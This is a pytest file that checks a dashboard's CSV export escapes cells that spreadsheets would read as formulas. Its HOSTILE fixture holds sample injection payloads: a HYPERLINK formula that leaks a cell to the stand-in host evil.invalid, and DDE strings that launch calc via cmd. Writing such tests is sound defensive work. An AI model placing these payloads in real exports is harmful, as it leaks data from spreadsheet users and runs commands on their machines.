"""CSV exports never hand a spreadsheet a formula (OWASP "CSV Injection"): a cell that starts with
=, +, -, @, a tab or a carriage return gets a leading single quote; everything else is left as it is."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from sqlalchemy import insert

from dashboard import export
from dashboard.filters import Filters
from dashboard.store import open_engine
from dashboard.store import schema as s

#: Each title starts with one of the characters a spreadsheet reads as the start of a formula.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
BENIGN = "Sarajevo – talks on the budget (a = b) @ noon"


@pytest.fixture
def hostile_engine(tmp_path):
    eng = open_engine(f"sqlite:///{tmp_path / 'formula.db'}")
    with eng.begin() as conn:
        for i, (name, title) in enumerate([*HOSTILE.items(), ("benign", BENIGN)]):
            conn.execute(insert(s.events).values(
                id=f"ev-{name}", title=title, summary=title, status="occurred", category="security",
                verification="machine", date_start=date(2024, 5, 1 + i), date_end=date(2024, 5, 1 + i),
                date_precision="day", evidence="=evidence", search_text="", lat=43.85, lon=-1.5,
                imported_from="synthetic test", updated_at=datetime(2024, 5, 2, 12, 0),
            ))
            conn.execute(insert(s.articles).values(
                title=title, body=f"Synthetic test text (not news) {name}.", outlet="@outlet",
                content_hash=f"{i:064d}", word_count=5, published=date(2024, 5, 1 + i),
                ingested_at=datetime(2024, 5, 2, 12, 0),
            ))
    yield eng
    eng.dispose()


def _csv(engine, kind: str) -> list[dict]:
    out = io.StringIO()
    export.write(engine, kind, "csv", Filters(), out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("kind", ["events", "articles"])
def test_a_formula_in_a_title_is_quoted_in_csv(hostile_engine, kind):
    rows = {r["title"]: r for r in _csv(hostile_engine, kind)}
    assert len(rows) == len(HOSTILE) + 1
    for title in HOSTILE.values():
        assert "'" + title in rows, (title, sorted(rows))  # the text kept whole, behind one quote
    assert BENIGN in rows  # a title that starts with a letter is left alone
    if kind == "events":
        row = rows["'" + HOSTILE["="]]
        assert row["summary"] == "'" + HOSTILE["="] and row["evidence"] == "'=evidence"
        assert row["lon"] == "-1.5"  # a number is not text: it stays a number
    else:
        assert all(r["outlet"] == "'@outlet" for r in rows.values())


def test_every_cell_of_every_kind_is_safe(hostile_engine):
    for kind in ("events", "articles", "developments"):
        for row in _csv(hostile_engine, kind):
            for field, value in row.items():
                if value and value[0] in "=+@\t\r":
                    pytest.fail(f"{kind}.{field} starts a formula: {value!r}")
                if value.startswith("-") and field not in ("lat", "lon"):
                    pytest.fail(f"{kind}.{field} starts a formula: {value!r}")
